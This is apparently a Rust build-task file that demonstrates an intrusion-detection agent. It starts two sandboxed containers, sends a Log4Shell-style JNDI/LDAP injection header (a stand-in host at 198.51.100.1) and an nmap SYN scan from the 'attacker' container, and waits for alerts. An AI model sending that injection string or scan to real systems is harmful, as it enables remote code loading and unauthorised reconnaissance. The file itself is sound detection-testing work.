//! `cargo xtask demo`: two containers, an attack, the alerts. All of it is its own and goes again.

use std::path::Path;

use anyhow::{Result, ensure};
use hydrophone_tests::{Agent, Engine, Options};
use rustix::process::geteuid;

use crate::{
    command::build_agent,
    setup::{Group, setup},
};

const EXPLOIT: &str = "X-Api: ${jndi:ldap://198.51.100.1/a}";

/// Runs the demonstration.
pub(crate) fn demo(root: &Path) -> Result<()> {
    ensure!(
        geteuid().is_root(),
        "the demo starts containers of its own and needs root"
    );
    setup(root, Group::Test)?;
    let agent = build_agent(root, "release")?;

    println!("\n# a Docker Engine of our own, with two containers: web and attacker");
    let engine = Engine::start()?;
    let web = engine.run(
        "web",
        &[],
        &["busybox", "httpd", "-f", "-h", "/usr/share/doc"],
    )?;
    let attacker = engine.run("attacker", &[], &["busybox", "sleep", "1000000"])?;
    web.wait_until_listening(80)?;

    println!("# hydrophone run --format text");
    let mut options = Options::new(&engine).set("alert", "format", "text");
    options.binary = Some(agent);
    options.echo = true;
    let agent = Agent::start(&options)?;

    let url = format!("http://{}/adduser/copyright", web.ipv4());
    println!("# attacker: wget --header '{EXPLOIT}' {url}");
    attacker.ask(&url, EXPLOIT)?;
    agent.wait_for_line("the exploit", |line| line.contains("Log4Shell"))?;

    println!("# attacker: nmap -sS -p1-1000 {}", web.ipv4());
    attacker.exec(&["nmap", "-n", "-Pn", "-sS", "-p1-1000", web.ipv4()])?;
    agent.wait_for_line("the scan", |line| line.contains("port scan"))?;

    agent.stop()?;
    println!("# done: nothing of it is left");
    Ok(())
}
